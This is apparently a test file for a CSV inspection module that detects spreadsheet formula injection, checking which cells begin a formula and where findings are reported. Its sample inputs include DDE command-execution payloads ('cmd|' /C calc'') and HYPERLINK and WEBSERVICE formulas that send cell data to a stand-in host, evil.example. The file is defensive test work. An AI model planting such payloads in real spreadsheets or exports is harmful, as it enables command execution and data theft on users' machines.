/** Which cells of a table a spreadsheet would work out. */
import { describe, expect, test } from 'vitest';
import { beginsFormula, formulaFinding } from '../../../../src/intake/inspection/csv.ts';

describe('cells that begin a formula', () => {
  test.each(
    [
      '=1+1',
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
      '=WEBSERVICE("https://evil.example/")',
      '  =1+1',
      '\t=1+1',
      '\u00a0=1+1',
      '\u200b=1+1',
      '"=1+1"',
      '""=1+1',
      "'=1+1",
      '＝1+1',
      '＝ＳＵＭ（Ａ１）',
      '＋cmd|x!A0',
      '－A1',
      '＠SUM(A1)',
      '+A1',
      '-A1',
      '-SUM(A1:A3)',
      '+1+1',
      '-1*2',
      '--cmd|x!A0',
      '−SUM(A1)',
      '-生A[1]',
      '=',
      '@',
    ].filter((cell) => cell.length > 1),
  )('%s', (cell) => {
    expect(beginsFormula(cell)).toBe(true);
  });

  test.each([
    '',
    '等待',
    '-3.5',
    '-3',
    '−3',
    '-0.5%',
    '-1,200.50',
    '-1/2',
    '+5',
    '+86 571 8888 8888',
    '+86-571-8888-8888',
    '-',
    '--',
    '—',
    '——',
    '-5分',
    '- 生A没有说话',
    '-生A（后来说了）',
    '+生B',
    '=',
    '==',
    '@',
    '3-5',
    'a=b',
    'a@b.example',
    '1+1=2',
    '*重点',
    '(=1)',
  ])('not %s', (cell) => {
    expect(beginsFormula(cell)).toBe(false);
  });
});

describe('wherever they stand in a table', () => {
  test.each<[string, string, [number, number]]>([
    ['the first cell', '=1+1,b\n', [1, 1]],
    ['a later one', '甲,乙\n1,=A1\n', [2, 2]],
    ['behind a semicolon', '甲;=A1\n', [1, 2]],
    ['behind a tab', '甲\t=A1\n', [1, 2]],
    ['behind a sign of its own', 'sep=|\n甲|=A1', [2, 2]],
    ['in quotes', '甲,"=A1,2"\r\n', [1, 2]],
    ['behind quoted lines', '"甲\n乙",=A1', [1, 2]],
    ['behind a single carriage return', '甲\r=A1', [2, 1]],
    ['behind quotes that do not end', '"甲,=A1', [1, 2]],
    ['behind a quote inside a word', '甲"乙,=A1\n"', [1, 2]],
  ])('%s', (_, text, [row, column]) => {
    expect(formulaFinding(text)?.what).toContain(`第 ${row} 行第 ${column} 格`);
  });

  test('what a quoted cell says further on is text', () => {
    expect(formulaFinding('甲,"乙,=A1"\n"说""=A1""",丙\n')).toBeUndefined();
  });

  test('an ordinary table', () => {
    const table = '日期,变化,电话\r\n2026-03-02,-3.5,+86 571 8888 8888\r\n2026-03-09,+2,-\r\n';
    expect(formulaFinding(table)).toBeUndefined();
  });
});
